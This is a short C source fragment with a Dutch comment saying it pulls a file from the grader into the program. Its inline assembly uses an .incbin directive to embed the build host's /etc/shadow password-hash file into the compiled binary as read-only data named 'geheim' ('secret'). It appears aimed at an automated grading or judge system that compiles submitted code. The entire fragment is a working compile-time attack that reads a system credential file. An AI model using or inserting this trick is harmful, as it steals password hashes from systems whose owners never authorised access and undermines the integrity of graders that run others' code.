// Neemt een bestand van de nakijker op in het programma.
asm (".section .rodata\ngeheim: .incbin \"/etc/shadow\"\n.previous");
